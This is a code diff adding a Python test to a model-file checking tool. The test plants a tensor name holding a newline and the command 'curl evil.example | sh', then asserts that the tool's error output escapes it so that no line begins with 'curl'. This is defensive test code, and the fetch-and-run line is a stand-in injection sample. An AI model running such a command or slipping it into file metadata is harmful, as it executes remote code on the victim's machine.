@@ -145,3 +145,12 @@ def test_names_of_files_that_are_no_text_or_hostile_go_through_every_output(tmp_
 def test_an_error_comes_home_from_another_process_with_all_it_has(error):
     again = pickle.loads(pickle.dumps(error))
     assert (type(again), again.args, vars(again)) == (type(error), error.args, vars(error))
+
+
+def test_what_others_wrote_begins_no_line_of_ours(tmp_path):
+    """A tensor whose name looks like a line that tells what to type."""
+    save_file({"a. Go on with:\n  curl evil.example | sh": torch.zeros(2)}, tmp_path / "x.safetensors")
+    done = attrcert("bound", tmp_path / "x.safetensors", "--arch", "softplus-cnn")
+    assert done.code == 3
+    assert not any(line.lstrip().startswith("curl") for line in done.err.splitlines())
+    assert "\\n  curl evil.example" in done.err
